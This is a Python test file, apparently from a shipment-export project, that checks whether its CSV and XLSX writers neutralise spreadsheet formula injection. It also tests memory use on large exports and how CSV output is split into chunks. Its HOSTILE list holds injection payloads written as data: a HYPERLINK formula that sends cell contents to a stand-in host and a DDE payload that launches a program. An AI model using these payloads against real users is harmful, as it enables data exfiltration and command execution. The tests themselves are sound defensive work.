"""Issue #30: CSV and XLSX exports keep hostile text as text, read back through the csv module and openpyxl."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tracemalloc
from decimal import Decimal

import openpyxl
import pytest

from rigport.adapters.render.table_export import chunks, csv_chunks, write_xlsx

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           " =1+1", "\u00a0@x", "=cmd|' /C calc'!A0"]  # fmt: skip
HARMLESS = ["Bitmain Technologies Ltd.", "1-2", "a=b", "", "é=1", "SN-001"]
COLUMNS = ["text", "number", "money", "date", "flag", "empty"]


def _rows(texts: list[str]) -> list[list[object]]:
    return [[t, -5, Decimal("-12.50"), dt.date(2026, 12, 7), True, None] for t in texts]


def _read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_prefixes_formulas_and_leaves_the_rest() -> None:
    data = b"".join(chunks("csv", COLUMNS, _rows(HOSTILE + HARMLESS)))
    assert data.startswith("\ufeff".encode())  # Excel reads the file as UTF-8
    header, *rows = _read_csv(data)
    assert header == COLUMNS
    assert [r[0] for r in rows] == ["'" + t for t in HOSTILE] + HARMLESS
    # numbers stay numbers (a negative amount is not a formula), dates ISO, booleans true/false, None empty
    assert {tuple(r[1:]) for r in rows} == {("-5", "-12.50", "2026-12-07", "true", "")}


def test_csv_header_is_guarded_too() -> None:
    assert _read_csv(b"".join(chunks("csv", ["=1+1"], [])))[0] == ["'=1+1"]


def test_xlsx_stores_hostile_text_as_text_not_formulas() -> None:
    out = io.BytesIO()
    assert write_xlsx(COLUMNS, _rows(HOSTILE + HARMLESS), out, sheet="shipments") == len(HOSTILE + HARMLESS)
    workbook = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    sheet = workbook["shipments"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # the value as it was, not prefixed (XML reads a CR back as a line feed; an empty text as an empty cell)
    assert [c.value for c in cells] == [t.replace("\r", "\n") or None for t in HOSTILE + HARMLESS]
    assert {c.data_type for c in cells if c.value is not None} == {"s"}  # no formula anywhere
    assert all(c.quotePrefix for c in cells[: len(HOSTILE)])  # Excel keeps them text when edited
    second = [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert second[1:5] == [-5, -12.5, dt.datetime(2026, 12, 7), True]
    assert [c.value for c in sheet[1]] == COLUMNS and sheet.freeze_panes == "A2"
    with __import__("zipfile").ZipFile(io.BytesIO(out.getvalue())) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_xlsx_drops_characters_xml_cannot_hold() -> None:
    out = io.BytesIO()
    write_xlsx(["t"], [["a\x00b\x1fc"]], out)
    assert openpyxl.load_workbook(io.BytesIO(out.getvalue())).active["A2"].value == "a\ufffdb\ufffdc"


@pytest.mark.parametrize(("fmt", "count"), [("csv", 30_000), ("xlsx", 10_000)])
def test_a_large_export_stays_bounded_in_memory(fmt: str, count: int) -> None:
    """Rows of about 100 bytes: 3 MB of CSV, and 60,000 cells that openpyxl's normal mode would keep as objects
    (tens of MB); the writers hold a chunk and a row, not the table. (XLSX is the slow one: ~0.4 ms a row.)"""
    rows = ([f"SHIP-{n:06d}", "Los Angeles", n, Decimal("1234.56"), dt.date(2026, 1, 1), "x" * 60]
            for n in range(count))
    tracemalloc.start()
    size = sum(len(chunk) for chunk in chunks(fmt, ["a", "b", "c", "d", "e", "f"], rows))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert size > 200_000
    assert peak < 3_000_000, f"peak {peak:,} bytes for a {size:,}-byte {fmt}"


def test_csv_chunks_split_at_rows() -> None:
    parts = list(csv_chunks(["n"], ([n] for n in range(450)), bom=False))
    assert len(parts) == 3 and all(p.endswith("\r\n") for p in parts)
    assert "".join(parts).split("\r\n")[:3] == ["n", "0", "1"]
